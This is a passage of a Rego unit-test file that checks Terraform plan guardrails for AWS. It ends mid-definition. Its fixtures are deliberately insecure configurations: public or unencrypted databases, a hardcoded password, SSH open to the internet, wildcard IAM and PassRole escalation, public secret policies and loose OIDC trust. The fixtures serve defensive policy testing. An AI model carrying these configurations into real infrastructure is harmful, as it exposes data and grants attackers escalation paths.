# Unit tests of the plan guardrails: each rule fires on a small bad input, by name and on the
# resource's address, and stays quiet on the good one. The fine-grained cases live here (how a
# CIDR, an ARN, an action or a provenance chain is read); the real plans of the red-team set
# (redteam/, run by test/e2e/terraform) show the same rules on what the provider really plans.
package terraform.guardrails_test

import data.terraform.guardrails

# --- helpers ----------------------------------------------------------------------------------

# No environment: production's rules, the strictest (an environment's plan also needs a trail).
params := {"account_id": "111111111111"}

plan(changes) := {"resource_changes": changes, "configuration": {"root_module": {}}}

plan_with(changes, root_module) := {"resource_changes": changes, "configuration": {"root_module": root_module}}

create(address, type, after) := {
	"address": address,
	"mode": "managed",
	"type": type,
	"change": {"actions": ["create"], "after": after, "after_unknown": {}},
}

# A resource some of whose values are unknown at plan.
create_unknown(address, type, after, unknown) := {
	"address": address,
	"mode": "managed",
	"type": type,
	"change": {"actions": ["create"], "after": after, "after_unknown": unknown},
}

config(address, type, expressions) := {"address": address, "mode": "managed", "type": type, "expressions": expressions}

refs(rs) := {"references": rs}

violations(p) := vs if {
	vs := guardrails.violations with input as p with data.terraform.params as params
}

violations_in(p, env) := vs if {
	vs := guardrails.violations with input as p with data.terraform.params as {"environment": env, "account_id": "111111111111"}
}

refused(p, rule, address) if {
	some v in violations(p)
	v.rule == rule
	v.address == address
	v.msg != ""
}

refused_in(p, env, rule, address) if {
	some v in violations_in(p, env)
	v.rule == rule
	v.address == address
}

admitted(p) if count(violations(p)) == 0

policy(statement) := json.marshal({"Version": "2012-10-17", "Statement": [statement]})

role_policy(address, statement) := create(address, "aws_iam_role_policy", {"name": "p", "role": "r", "policy": policy(statement)})

# --- databases --------------------------------------------------------------------------------

key_arn := "arn:aws:kms:eu-west-1:111111111111:key/00000000-0000-0000-0000-000000000000"

good_db := {
	"engine": "postgres", "engine_version": "17.4", "publicly_accessible": false, "storage_encrypted": true,
	"kms_key_id": key_arn, "backup_retention_period": 14, "deletion_protection": true, "skip_final_snapshot": false,
	"multi_az": true, "parameter_group_name": "default.postgres17",
}

test_public_database_refused if {
	refused(plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"publicly_accessible": true}))]), "database.public", "aws_db_instance.db")
}

test_unencrypted_database_refused if {
	refused(plan([create("module.x.aws_db_instance.db", "aws_db_instance", object.union(good_db, {"storage_encrypted": false}))]), "database.unencrypted", "module.x.aws_db_instance.db")
}

test_private_encrypted_database_admitted if {
	admitted(plan([create("aws_db_instance.db", "aws_db_instance", good_db)]))
}

test_deleted_public_database_ignored if {
	rc := object.union(create("aws_db_instance.db", "aws_db_instance", null), {"change": {"actions": ["delete"], "after": null, "after_unknown": {}}})
	admitted(plan([rc]))
}

test_publicly_accessible_unknown_refused if {
	rc := create_unknown("aws_db_instance.db", "aws_db_instance", object.remove(good_db, ["publicly_accessible"]), {"publicly_accessible": true})
	refused(plan([rc]), "database.public", "aws_db_instance.db")
}

test_storage_encrypted_unknown_refused if {
	rc := create_unknown("aws_db_instance.db", "aws_db_instance", object.remove(good_db, ["storage_encrypted"]), {"storage_encrypted": true})
	refused(plan([rc]), "database.unencrypted", "aws_db_instance.db")
}

test_aws_managed_key_refused if {
	refused(plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"kms_key_id": "arn:aws:kms:eu-west-1:111111111111:alias/aws/rds"}))]), "database.storage_key", "aws_db_instance.db")
}

test_key_of_another_account_refused if {
	refused(plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"kms_key_id": "arn:aws:kms:eu-west-1:222222222222:key/x"}))]), "database.storage_key", "aws_db_instance.db")
}

test_production_rules_read_the_resource if {
	p := plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"deletion_protection": false, "backup_retention_period": 0, "skip_final_snapshot": true, "multi_az": false}))])
	refused_in(p, "production", "database.deletion_protection", "aws_db_instance.db")
	refused_in(p, "production", "database.backups", "aws_db_instance.db")
	refused_in(p, "production", "database.final_snapshot", "aws_db_instance.db")
	refused_in(p, "production", "database.multi_az", "aws_db_instance.db")

	# staging accepts an unprotected single-AZ database, never one without backups
	not refused_in(p, "staging", "database.deletion_protection", "aws_db_instance.db")
	refused_in(p, "staging", "database.backups", "aws_db_instance.db")
}

test_no_environment_means_production if {
	p := plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"deletion_protection": false}))])
	some v in guardrails.violations with input as p with data.terraform.params as {"account_id": "111111111111"}
	v.rule == "database.deletion_protection"
}

test_force_ssl_off_refused if {
	group := create("aws_db_parameter_group.pg", "aws_db_parameter_group", {"name": "pg", "parameter": [{"name": "rds.force_ssl", "value": "0"}]})
	db := create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"parameter_group_name": "pg"}))
	p := plan([group, db])
	refused(p, "database.force_ssl", "aws_db_parameter_group.pg")
	refused(p, "database.force_ssl", "aws_db_instance.db")
}

test_old_postgres_default_group_refused if {
	refused(plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"engine_version": "14.12", "parameter_group_name": "default.postgres14"}))]), "database.force_ssl", "aws_db_instance.db")
}

test_public_snapshot_refused if {
	refused(plan([create("aws_db_snapshot.s", "aws_db_snapshot", {"shared_accounts": ["all"]})]), "database.public_snapshot", "aws_db_snapshot.s")
}

test_static_password_refused if {
	refused(plan([create("aws_db_instance.db", "aws_db_instance", object.union(good_db, {"password": "hunter2hunter2"}))]), "database.static_password", "aws_db_instance.db")
}

# --- security groups: networks as networks ----------------------------------------------------

ingress(from, to, protocol, cidrs, cidrs6) := {"from_port": from, "to_port": to, "protocol": protocol, "cidr_blocks": cidrs, "ipv6_cidr_blocks": cidrs6}

sg(address, rules, tags) := create(address, "aws_security_group", {"ingress": rules, "tags": tags})

test_ssh_from_anywhere_refused if {
	refused(plan([sg("aws_security_group.ssh", [ingress(22, 22, "tcp", ["0.0.0.0/0"], [])], null)]), "network.internet_ingress", "aws_security_group.ssh")
}

test_two_halves_of_the_internet_refused if {
	refused(plan([sg("aws_security_group.h", [ingress(22, 22, "tcp", ["0.0.0.0/1", "128.0.0.0/1"], [])], null)]), "network.internet_ingress", "aws_security_group.h")
}

test_many_slash_eights_refused if {
	cidrs := [sprintf("%d.0.0.0/8", [n]) | some n in numbers.range(11, 22)]
	refused(plan([sg("aws_security_group.e", [ingress(5432, 5432, "tcp", cidrs, [])], null)]), "network.internet_ingress", "aws_security_group.e")
}

test_one_public_address_refused if {
	refused(plan([sg("aws_security_group.o", [ingress(22, 22, "tcp", ["203.0.113.7/32"], [])], null)]), "network.internet_ingress", "aws_security_group.o")
}

test_ipv6_world_spelt_otherwise_refused if {
	every c in ["::/0", "0::/0", "2000::/3", "::/1"] {
		refused(plan([sg("aws_security_group.v6", [ingress(443, 443, "tcp", [], [c])], null)]), "network.internet_ingress", "aws_security_group.v6")
	}
}

test_ipv6_world_refused_even_on_a_load_balancer_for_all_ports if {
	refused(plan([sg("aws_security_group.all", [ingress(0, 0, "-1", [], ["::/0"])], {"Role": "load-balancer"})]), "network.internet_ingress", "aws_security_group.all")
}

test_malformed_cidr_refused if {
	refused(plan([sg("aws_security_group.m", [ingress(22, 22, "tcp", ["not-a-network"], [])], null)]), "network.internet_ingress", "aws_security_group.m")
}

test_https_on_load_balancer_admitted if {
	admitted(plan([sg("aws_security_group.lb", [ingress(443, 443, "tcp", ["0.0.0.0/0"], ["::/0"])], {"Role": "load-balancer"})]))
}

test_https_on_untagged_group_refused if {
	refused(plan([sg("aws_security_group.web", [ingress(443, 443, "tcp", ["0.0.0.0/0"], [])], {})]), "network.internet_ingress", "aws_security_group.web")
}

test_private_ingress_admitted if {
	admitted(plan([sg("aws_security_group.db", [ingress(5432, 5432, "tcp", ["10.0.0.0/16", "172.16.0.0/12", "100.64.0.0/10"], ["fd00::/8"])], null)]))
}

test_standalone_rule_open_to_world_refused if {
	refused(plan([create("aws_vpc_security_group_ingress_rule.pg", "aws_vpc_security_group_ingress_rule", {"cidr_ipv4": "0.0.0.0/0", "from_port": 5432, "to_port": 5432, "ip_protocol": "tcp", "tags": null})]), "network.internet_ingress", "aws_vpc_security_group_ingress_rule.pg")
}

test_legacy_rule_open_to_world_refused if {
	refused(plan([create("aws_security_group_rule.web", "aws_security_group_rule", {"type": "ingress", "from_port": 443, "to_port": 443, "protocol": "tcp", "cidr_blocks": ["0.0.0.0/0"]})]), "network.internet_ingress", "aws_security_group_rule.web")
}

test_world_egress_admitted if {
	admitted(plan([create("aws_security_group_rule.out", "aws_security_group_rule", {"type": "egress", "from_port": 443, "to_port": 443, "protocol": "tcp", "cidr_blocks": ["0.0.0.0/0"]})]))
}

# An unknown source is admitted only when it provably is a VPC's block.
test_unknown_ingress_source_refused if {
	rule := create_unknown("aws_vpc_security_group_ingress_rule.r", "aws_vpc_security_group_ingress_rule", {"from_port": 22, "to_port": 22, "ip_protocol": "tcp"}, {"cidr_ipv4": true})
	root := {"resources": [config("aws_vpc_security_group_ingress_rule.r", "aws_vpc_security_group_ingress_rule", {"cidr_ipv4": refs(["aws_eip.x.public_ip", "aws_eip.x"])})]}
	refused(plan_with([rule], root), "network.unknown_ingress_source", "aws_vpc_security_group_ingress_rule.r")
}

test_unknown_ingress_source_from_the_vpc_admitted if {
	rule := create_unknown("aws_vpc_security_group_ingress_rule.r", "aws_vpc_security_group_ingress_rule", {"from_port": 443, "to_port": 443, "ip_protocol": "tcp"}, {"cidr_ipv4": true})
	root := {"resources": [config("aws_vpc_security_group_ingress_rule.r", "aws_vpc_security_group_ingress_rule", {"cidr_ipv4": refs(["aws_vpc.v.cidr_block", "aws_vpc.v"])})]}
	admitted(plan_with([rule], root))
}

# --- VPCs, subnets, routes, flow logs ---------------------------------------------------------

flow_log_config(vpc_ref) := config("aws_flow_log.f", "aws_flow_log", {"vpc_id": refs([sprintf("%s.id", [vpc_ref]), vpc_ref])})

default_sg_config(vpc_ref) := config("aws_default_security_group.d", "aws_default_security_group", {"vpc_id": refs([sprintf("%s.id", [vpc_ref]), vpc_ref])})

test_vpc_without_flow_log_refused if {
	refused(plan([create("aws_vpc.main", "aws_vpc", {"cidr_block": "10.0.0.0/16"})]), "network.flow_logs", "aws_vpc.main")
}

test_flow_log_in_module_admitted if {
	p := plan_with(
		[
			create("module.network.aws_vpc.this", "aws_vpc", {"cidr_block": "10.0.0.0/16"}),
			create_unknown("module.network.aws_flow_log.f", "aws_flow_log", {"traffic_type": "ALL"}, {"vpc_id": true}),
			create_unknown("module.network.aws_default_security_group.d", "aws_default_security_group", {"ingress": [], "egress": []}, {"vpc_id": true}),
		],
		{"module_calls": {"network": {"module": {"resources": [flow_log_config("aws_vpc.this"), default_sg_config("aws_vpc.this")]}}}},
	)
	admitted(p)
}

# A flow log with count = 0 is in the configuration but not in the plan: it does not count.
test_flow_log_count_zero_refused if {
	p := plan_with([create("aws_vpc.v", "aws_vpc", {"cidr_block": "10.0.0.0/16"})], {"resources": [flow_log_config("aws_vpc.v")]})
	refused(p, "network.flow_logs", "aws_vpc.v")
}

test_flow_log_of_rejected_traffic_only_refused if {
	p := plan_with(
		[
			create("aws_vpc.v", "aws_vpc", {"cidr_block": "10.0.0.0/16"}),
			create_unknown("aws_flow_log.f", "aws_flow_log", {"traffic_type": "REJECT"}, {"vpc_id": true}),
		],
		{"resources": [flow_log_config("aws_vpc.v")]},
	)
	refused(p, "network.flow_logs", "aws_flow_log.f")
	refused(p, "network.flow_logs", "aws_vpc.v")
}

test_public_vpc_block_refused if {
	refused(plan([create("aws_vpc.v", "aws_vpc", {"cidr_block": "203.0.113.0/24"})]), "network.vpc_public_cidr", "aws_vpc.v")
}

test_default_security_group_with_rules_refused if {
	refused(plan([create("aws_default_security_group.d", "aws_default_security_group", {"ingress": [ingress(0, 0, "-1", [], [])], "egress": []})]), "network.default_security_group", "aws_default_security_group.d")
}

subnet(address, tier, extra) := create_unknown(address, "aws_subnet", object.union({"tags": {"Tier": tier}, "map_public_ip_on_launch": false}, extra), {"id": true})

test_subnet_without_tier_refused if {
	refused(plan([create("aws_subnet.s", "aws_subnet", {"tags": {}})]), "network.subnet_tier", "aws_subnet.s")
}

test_public_ip_on_launch_refused if {
	refused(plan([subnet("aws_subnet.s", "public", {"map_public_ip_on_launch": true})]), "network.public_ip_on_launch", "aws_subnet.s")
}

# A route table, its association with a subnet, and a route through target.
routed(tier, target_ref, dest) := plan_with(
	[
		subnet("aws_subnet.s", tier, {}),
		create_unknown("aws_route_table.t", "aws_route_table", {}, {"id": true}),
		create_unknown("aws_route_table_association.a", "aws_route_table_association", {}, {"subnet_id": true, "route_table_id": true}),
		create_unknown("aws_route.r", "aws_route", {"destination_cidr_block": dest}, {"route_table_id": true, target_ref[0]: true}),
	],
	{"resources": [
		config("aws_route_table_association.a", "aws_route_table_association", {"subnet_id": refs(["aws_subnet.s.id", "aws_subnet.s"]), "route_table_id": refs(["aws_route_table.t.id", "aws_route_table.t"])}),
		config("aws_route.r", "aws_route", {"route_table_id": refs(["aws_route_table.t.id", "aws_route_table.t"]), target_ref[0]: refs([target_ref[1]])}),
	]},
)

test_data_tier_default_route_refused if {
	refused(routed("data", ["nat_gateway_id", "aws_nat_gateway.n.id"], "0.0.0.0/0"), "network.data_tier_egress", "aws_route.r")
}

test_private_tier_to_internet_gateway_refused if {
	refused(routed("private", ["gateway_id", "aws_internet_gateway.i.id"], "0.0.0.0/0"), "network.internet_route_from_private_tier", "aws_route.r")
}

test_public_tier_to_internet_gateway_admitted if {
	admitted(routed("public", ["gateway_id", "aws_internet_gateway.i.id"], "0.0.0.0/0"))
}

test_private_tier_through_nat_admitted if {
	p := routed("private", ["nat_gateway_id", "aws_nat_gateway.n.id"], "0.0.0.0/0")
	not refused(p, "network.internet_route_from_private_tier", "aws_route.r")
	not refused(p, "network.data_tier_egress", "aws_route.r")
}

# --- logs -------------------------------------------------------------------------------------

test_unencrypted_log_group_refused if {
	refused(plan([create("aws_cloudwatch_log_group.app", "aws_cloudwatch_log_group", {"kms_key_id": null, "retention_in_days": 90})]), "logging.unencrypted", "aws_cloudwatch_log_group.app")
}

# The key of a log group unknown at plan: admitted when it can only be a key of this plan,
# followed through a module variable and the output of another module.
module_chain_plan(key_ref) := plan_with(
	[create_unknown("module.net.aws_cloudwatch_log_group.g", "aws_cloudwatch_log_group", {"retention_in_days": 90}, {"kms_key_id": true})],
	{"module_calls": {
		"net": {
			"expressions": {"key": refs(["module.obs.key_arn", "module.obs"])},
			"module": {
				"variables": {"key": {}},
				"resources": [config("aws_cloudwatch_log_group.g", "aws_cloudwatch_log_group", {"kms_key_id": refs(["var.key"])})],
			},
		},
		"obs": {"module": {"outputs": {"key_arn": {"expression": refs(key_ref)}}}},
	}},
)

test_log_group_key_from_a_key_of_the_plan_admitted if {
	admitted(module_chain_plan(["aws_kms_key.logs.arn", "aws_kms_key.logs"]))
}

test_log_group_key_from_anything_else_refused if {
	refused(module_chain_plan(["aws_s3_bucket.b.arn", "aws_s3_bucket.b"]), "logging.unencrypted", "module.net.aws_cloudwatch_log_group.g")
}

test_log_group_key_through_a_local_refused if {
	refused(module_chain_plan(["local.key"]), "logging.unencrypted", "module.net.aws_cloudwatch_log_group.g")
}

test_never_expiring_logs_refused if {
	refused(plan([create("aws_cloudwatch_log_group.g", "aws_cloudwatch_log_group", {"kms_key_id": key_arn, "retention_in_days": 0})]), "logging.retention", "aws_cloudwatch_log_group.g")
}

test_audit_log_kept_too_short_in_production_refused if {
	p := plan([create("aws_cloudwatch_log_group.g", "aws_cloudwatch_log_group", {"name": "/aws/eks/c/cluster", "kms_key_id": key_arn, "retention_in_days": 90})])
	refused_in(p, "production", "logging.audit_retention", "aws_cloudwatch_log_group.g")
	not refused_in(p, "staging", "logging.audit_retention", "aws_cloudwatch_log_group.g")
}

# --- IAM: actions by what they do -------------------------------------------------------------

test_star_action_refused if {
	refused(plan([create("aws_iam_policy.admin", "aws_iam_policy", {"policy": policy({"Effect": "Allow", "Action": "*", "Resource": "*"})})]), "iam.every_action", "aws_iam_policy.admin")
}

test_service_wildcard_action_refused if {
	refused(plan([role_policy("aws_iam_role_policy.s3", {"Sid": "All", "Effect": "Allow", "Action": ["s3:*"], "Resource": "arn:aws:s3:::b/*"})]), "iam.every_action", "aws_iam_role_policy.s3")
}

test_write_on_every_resource_refused if {
	refused(plan([role_policy("aws_iam_role_policy.put", {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": "*"})]), "iam.write_everywhere", "aws_iam_role_policy.put")
}

test_wildcard_arns_are_every_resource if {
	every r in ["arn:aws:*:*:*:*", "arn:aws:s3:::*/*", "arn:aws:s3:::*", "arn:aws:dynamodb:eu-west-1:*:table/t", "arn:aws:dynamodb:eu-west-1:111111111111:table/*", "arn:aws:sqs:*:111111111111:*"] {
		refused(plan([role_policy("aws_iam_role_policy.w", {"Effect": "Allow", "Action": "s3:PutObject", "Resource": r})]), "iam.write_everywhere", "aws_iam_role_policy.w")
	}
}

test_one_bucket_is_bounded if {
	admitted(plan([role_policy("aws_iam_role_policy.w", {"Effect": "Allow", "Action": "s3:PutObject", "Resource": "arn:aws:s3:::my-bucket/*"})]))
}

test_read_on_every_resource_admitted if {
	admitted(plan([role_policy("aws_iam_role_policy.login", {"Effect": "Allow", "Action": "ecr:GetAuthorizationToken", "Resource": "*"})]))
}

test_get_star_is_not_read_only if {
	refused(plan([role_policy("aws_iam_role_policy.g", {"Effect": "Allow", "Action": "secretsmanager:Get*", "Resource": "*"})]), "iam.data_read_everywhere", "aws_iam_role_policy.g")
}

test_decrypt_everything_refused if {
	refused(plan([role_policy("aws_iam_role_policy.k", {"Effect": "Allow", "Action": "kms:Decrypt", "Resource": "*"})]), "iam.data_read_everywhere", "aws_iam_role_policy.k")
}

test_decrypt_narrowed_by_encryption_context_admitted if {
	admitted(plan([role_policy("aws_iam_role_policy.k", {"Effect": "Allow", "Action": "kms:Decrypt", "Resource": "arn:aws:kms:eu-west-1:111111111111:key/*", "Condition": {"StringEquals": {"kms:EncryptionContext:aws:s3:arn": "arn:aws:s3:::state"}}})]))
}

test_pass_role_on_every_role_refused if {
	every r in ["*", "arn:aws:iam::111111111111:role/*", "arn:aws:iam::111111111111:role/app-*"] {
		refused(plan([role_policy("aws_iam_role_policy.p", {"Effect": "Allow", "Action": "iam:PassRole", "Resource": r})]), "iam.privilege_escalation", "aws_iam_role_policy.p")
	}
}

test_pass_role_on_one_role_admitted if {
	admitted(plan([role_policy("aws_iam_role_policy.p", {"Effect": "Allow", "Action": "iam:PassRole", "Resource": "arn:aws:iam::111111111111:role/eks-node"})]))
}

test_put_star_escalates_even_on_one_role if {
	refused(plan([role_policy("aws_iam_role_policy.p", {"Effect": "Allow", "Action": "iam:Put*", "Resource": "arn:aws:iam::111111111111:role/app"})]), "iam.privilege_escalation", "aws_iam_role_policy.p")
}

test_action_names_are_case_insensitive if {
	refused(plan([role_policy("aws_iam_role_policy.p", {"Effect": "Allow", "Action": "IAM:PASSROLE", "Resource": "*"})]), "iam.privilege_escalation", "aws_iam_role_policy.p")
}

test_deny_statement_with_wildcards_admitted if {
	admitted(plan([create("aws_iam_policy.guard", "aws_iam_policy", {"policy": policy({"Effect": "Deny", "Action": "*", "Resource": "*"})})]))
}

test_not_action_refused if {
	refused(plan([create("aws_iam_policy.na", "aws_iam_policy", {"policy": policy({"Effect": "Allow", "NotAction": "iam:*", "Resource": "arn:aws:s3:::b"})})]), "iam.not_action", "aws_iam_policy.na")
}

test_inline_policy_of_role_checked if {
	refused(plan([create("aws_iam_role.r", "aws_iam_role", {"name": "r", "inline_policy": [{"name": "x", "policy": policy({"Effect": "Allow", "Action": "*", "Resource": "*"})}]})]), "iam.every_action", "aws_iam_role.r")
}

test_admin_managed_policies_refused if {
	every arn in ["arn:aws:iam::aws:policy/AdministratorAccess", "arn:aws:iam::aws:policy/PowerUserAccess", "arn:aws:iam::aws:policy/IAMFullAccess", "arn:aws:iam::aws:policy/AmazonS3FullAccess"] {
		refused(plan([create("aws_iam_role_policy_attachment.a", "aws_iam_role_policy_attachment", {"policy_arn": arn, "role": "r"})]), "iam.admin_managed_policy", "aws_iam_role_policy_attachment.a")
	}
}

test_admin_through_managed_policy_arns_refused if {
	refused(plan([create("aws_iam_role.r", "aws_iam_role", {"name": "r", "managed_policy_arns": ["arn:aws:iam::aws:policy/AdministratorAccess"]})]), "iam.admin_managed_policy", "aws_iam_role.r")
}

test_iam_user_and_key_refused if {
	p := plan([create("aws_iam_user.ci", "aws_iam_user", {"name": "ci"}), create("aws_iam_access_key.ci", "aws_iam_access_key", {"user": "ci"})])
	refused(p, "iam.user_or_key", "aws_iam_user.ci")
	refused(p, "iam.user_or_key", "aws_iam_access_key.ci")
}

# A whole document unknown at plan (jsonencode of an apply-time id) hides everything.
test_unknown_document_refused if {
	rc := create_unknown("aws_iam_role_policy.p", "aws_iam_role_policy", {"name": "p", "role": "r"}, {"policy": true})
	root := {"resources": [config("aws_iam_role_policy.p", "aws_iam_role_policy", {"policy": refs(["aws_s3_bucket.b.id", "aws_s3_bucket.b"])})]}
	refused(plan_with([rc], root), "iam.document_unjudgeable", "aws_iam_role_policy.p")
}

# --- trust policies ---------------------------------------------------------------------------

trust(statement) := policy(object.union({"Effect": "Allow", "Action": "sts:AssumeRole"}, statement))

role(address, trust_doc) := create(address, "aws_iam_role", {"name": "r", "assume_role_policy": trust_doc})

test_anyone_refused_even_with_a_condition if {
	refused(plan([role("aws_iam_role.open", trust({"Principal": {"AWS": "*"}, "Condition": {"Bool": {"aws:SecureTransport": "true"}}}))]), "iam.trust_any_principal", "aws_iam_role.open")
}

test_foreign_account_refused if {
	every p in ["arn:aws:iam::222222222222:root", "222222222222", "arn:aws:iam::222222222222:role/x"] {
		refused(plan([role("aws_iam_role.f", trust({"Principal": {"AWS": p}}))]), "iam.trust_foreign_account", "aws_iam_role.f")
	}
}

test_wildcard_principal_refused if {
	refused(plan([role("aws_iam_role.w", trust({"Principal": {"AWS": "arn:aws:iam::111111111111:role/*"}}))]), "iam.trust_wildcard_principal", "aws_iam_role.w")
}

test_own_role_and_service_trust_admitted if {
	admitted(plan([
		role("aws_iam_role.a", trust({"Principal": {"AWS": "arn:aws:iam::111111111111:role/Admin"}})),
		role("aws_iam_role.b", trust({"Principal": {"Service": "ec2.amazonaws.com"}})),
	]))
}

github_trust(condition) := policy({
	"Effect": "Allow",
	"Principal": {"Federated": "arn:aws:iam::111111111111:oidc-provider/token.actions.githubusercontent.com"},
	"Action": "sts:AssumeRoleWithWebIdentity",
	"Condition": condition,
})

gh := "token.actions.githubusercontent.com"

test_unpinned_github_trust_refused if {
	doc := github_trust({"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"}, "StringLike": {"token.actions.githubusercontent.com:sub": "repo:platform-template/*"}})
	refused(plan([role("aws_iam_role.ci", doc)]), "iam.trust_federated_subject", "aws_iam_role.ci")
}

test_github_trust_with_wildcard_ref_refused if {
	doc := github_trust({"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com", "token.actions.githubusercontent.com:sub": "repo:o/r:ref:refs/heads/*"}})
	refused(plan([role("aws_iam_role.ci", doc)]), "iam.trust_federated_subject", "aws_iam_role.ci")
}

test_github_trust_without_audience_refused if {
	doc := github_trust({"StringEquals": {"token.actions.githubusercontent.com:sub": "repo:o/r:environment:production"}})
	refused(plan([role("aws_iam_role.ci", doc)]), "iam.trust_federated_audience", "aws_iam_role.ci")
}

test_audience_with_if_exists_is_not_pinned if {
	doc := github_trust({"StringEqualsIfExists": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"}, "StringEquals": {"token.actions.githubusercontent.com:sub": "repo:o/r:environment:production"}})
	refused(plan([role("aws_iam_role.ci", doc)]), "iam.trust_federated_audience", "aws_iam_role.ci")
}

test_pinned_github_trust_admitted if {
	doc := github_trust({"StringEquals": {
		"token.actions.githubusercontent.com:aud": "sts.amazonaws.com",
		"token.actions.githubusercontent.com:sub": ["repo:o/r:pull_request", "repo:o/r:ref:refs/heads/main"],
	}})
	admitted(plan([role("aws_iam_role.ci", doc)]))
}

test_federated_principal_of_any_issuer_needs_an_audience if {
	doc := policy({"Effect": "Allow", "Principal": {"Federated": "cognito-identity.amazonaws.com"}, "Action": "sts:AssumeRoleWithWebIdentity"})
	refused(plan([role("aws_iam_role.c", doc)]), "iam.trust_federated_audience", "aws_iam_role.c")
}

pull_request_role(permissions) := [
	create("aws_iam_role.ci", "aws_iam_role", {"name": "ci", "assume_role_policy": github_trust({"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com", "token.actions.githubusercontent.com:sub": "repo:o/r:pull_request"}})}),
	create("aws_iam_role_policy.ci", "aws_iam_role_policy", {"name": "p", "role": "ci", "policy": policy(permissions)}),
]

test_pull_request_role_that_can_push_refused if {
	refused(plan(pull_request_role({"Effect": "Allow", "Action": ["ecr:PutImage", "ecr:InitiateLayerUpload"], "Resource": "arn:aws:ecr:eu-west-1:111111111111:repository/app"})), "iam.pull_request_role_can_write", "aws_iam_role.ci")
}

test_pull_request_role_that_reads_admitted if {
	admitted(plan(pull_request_role({"Effect": "Allow", "Action": ["s3:GetObject"], "Resource": "arn:aws:s3:::state/app.tfstate"})))
}

# The IRSA trust of a cluster this plan creates: built by an aws_iam_policy_document whose
# condition keys hold the unknown issuer; the subject and audience values are known.
irsa_plan(values_sub, test_sub) := plan_with(
	[
		create_unknown("aws_iam_role.app", "aws_iam_role", {"name": "app"}, {"assume_role_policy": true}),
		create_unknown("aws_iam_openid_connect_provider.p", "aws_iam_openid_connect_provider", {}, {"arn": true}),
		{
			"address": "data.aws_iam_policy_document.t", "mode": "data", "type": "aws_iam_policy_document",
			"change": {
				"actions": ["read"],
				"after": {"statement": [{
					"effect": "Allow", "actions": ["sts:AssumeRoleWithWebIdentity"],
					"principals": [{"type": "Federated", "identifiers": [null]}],
					"condition": [{"test": test_sub, "values": values_sub}, {"test": "StringEquals", "values": ["sts.amazonaws.com"]}],
				}]},
				"after_unknown": {"statement": [{"principals": [{"identifiers": [true]}], "condition": [{"variable": true}, {"variable": true}]}]},
			},
		},
	],
	{"resources": [
		config("aws_iam_role.app", "aws_iam_role", {"assume_role_policy": refs(["data.aws_iam_policy_document.t.json", "data.aws_iam_policy_document.t"])}),
		{"address": "data.aws_iam_policy_document.t", "mode": "data", "type": "aws_iam_policy_document", "expressions": {"statement": [{
			"principals": [{"identifiers": refs(["aws_iam_openid_connect_provider.p.arn", "aws_iam_openid_connect_provider.p"])}],
			"condition": [
				{"variable": refs(["aws_eks_cluster.c.identity[0].oidc[0].issuer", "aws_eks_cluster.c"])},
				{"variable": refs(["aws_eks_cluster.c.identity[0].oidc[0].issuer", "aws_eks_cluster.c"])},
			],
		}]}},
	]},
)

test_irsa_trust_unknown_at_plan_judged_and_admitted if {
	admitted(irsa_plan(["system:serviceaccount:app:app"], "StringEquals"))
}

test_irsa_trust_for_every_service_account_refused if {
	refused(irsa_plan(["system:serviceaccount:*"], "StringLike"), "iam.trust_federated_subject", "aws_iam_role.app")
}

# --- resource policies and keys ---------------------------------------------------------------

key(address, policy_doc) := create(address, "aws_kms_key", {"enable_key_rotation": true, "deletion_window_in_days": 30, "policy": policy_doc})

test_key_policy_open_to_everyone_refused if {
	refused(plan([key("aws_kms_key.k", policy({"Effect": "Allow", "Principal": "*", "Action": "kms:Decrypt", "Resource": "*"}))]), "resource_policy.public", "aws_kms_key.k")
}

test_key_policy_for_everyone_of_the_account_admitted if {
	admitted(plan([key("aws_kms_key.k", policy({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "kms:Decrypt", "Resource": "*", "Condition": {"StringEquals": {"kms:CallerAccount": "111111111111"}}}))]))
}

test_service_without_scope_refused if {
	refused(plan([key("aws_kms_key.k", policy({"Effect": "Allow", "Principal": {"Service": "logs.eu-west-1.amazonaws.com"}, "Action": "kms:Encrypt*", "Resource": "*"}))]), "resource_policy.service_confused_deputy", "aws_kms_key.k")
}

test_service_scoped_to_another_account_refused if {
	refused(plan([key("aws_kms_key.k", policy({"Effect": "Allow", "Principal": {"Service": "cloudtrail.amazonaws.com"}, "Action": "kms:GenerateDataKey*", "Resource": "*", "Condition": {"StringEquals": {"aws:SourceAccount": "222222222222"}}}))]), "resource_policy.service_confused_deputy", "aws_kms_key.k")
}

test_key_without_rotation_refused if {
	refused(plan([create("aws_kms_key.k", "aws_kms_key", {"enable_key_rotation": false, "deletion_window_in_days": 30})]), "kms.rotation", "aws_kms_key.k")
}

test_ecr_policy_for_another_account_refused if {
	refused(plan([create("aws_ecr_repository_policy.p", "aws_ecr_repository_policy", {"policy": policy({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::222222222222:root"}, "Action": "ecr:BatchGetImage"})})]), "resource_policy.foreign_account", "aws_ecr_repository_policy.p")
}

test_secret_policy_public_refused if {
	refused(plan([create("aws_secretsmanager_secret_policy.p", "aws_secretsmanager_secret_policy", {"block_public_policy": true, "policy": policy({"Effect": "Allow", "Principal": "*", "Action": "secretsmanager:GetSecretValue", "Resource": "*"})})]), "resource_policy.public", "aws_secretsmanager_secret_policy.p")
}

test_secret_version_refused if {
	refused(plan([create("aws_secretsmanager_secret_version.v", "aws_secretsmanager_secret_version", {"secret_id": "x"})]), "secrets.value_in_state", "aws_secretsmanager_secret_version.v")
}

# --- EKS --------------------------------------------------------------------------------------

cluster(extra) := create("aws_eks_cluster.c", "aws_eks_cluster", object.union(
	{
		"vpc_config": [{"endpoint_private_access": true, "endpoint_public_access": false}],
		"encryption_config": [{"resources": ["secrets"], "provider": [{"key_arn": key_arn}]}],
		"enabled_cluster_log_types": ["api", "audit", "authenticator"],
		"access_config": [{"authentication_mode": "API", "bootstrap_cluster_creator_admin_permissions": false}],
	},
	extra,
